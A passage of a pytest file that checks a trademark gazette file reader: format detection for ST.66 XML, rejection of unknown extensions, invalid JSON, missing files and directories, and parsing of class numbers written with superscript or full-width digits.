    path = tmp_path / "feed.xml"
    path.write_text('<?xml version="1.0"?><rss><channel><item>x</item></channel></rss>', encoding="utf-8")
    with pytest.raises(FileFormatError, match="ST.66"):
        detect_format(path)


# ---------------------------------------------------------------------------------- dispatch


@pytest.mark.parametrize("name", ["gazette.pdf", "gazette.xls", "gazette"])
def test_unknown_extension(tmp_path, name):
    path = tmp_path / name
    path.write_text("whatever", encoding="utf-8")
    with pytest.raises(FileFormatError, match="unknown file type"):
        read_gazette_file(path)


def test_json_that_is_not_json_is_refused(tmp_path):
    path = tmp_path / "gazette.json"  # .json is the gazette site's list export
    path.write_text("whatever", encoding="utf-8")
    with pytest.raises(FileFormatError, match="not valid JSON"):
        read_gazette_file(path)


def test_missing_file(tmp_path):
    with pytest.raises(FileFormatError, match="no such file"):
        read_gazette_file(tmp_path / "absent.jsonl")


def test_directory_is_refused(tmp_path):
    folder = tmp_path / "dir.csv"
    folder.mkdir()
    with pytest.raises(FileFormatError):
        read_gazette_file(folder)


def test_xml_extension_case_insensitive(tmp_path):
    path = tmp_path / "PYTHON.XML"
    shutil.copy(ST66_PYTHON, path)
    assert detect_format(path) == "st66"


def test_superscript_digits_are_refused_with_a_reason_not_a_crash():
    # '¹'.isdigit() is true but int('¹') raises: a class must be a decimal number
    with pytest.raises(RecordError, match="not a number"):
        parse_classes("¹")
    assert parse_classes("３０，３２") == (30, 32)
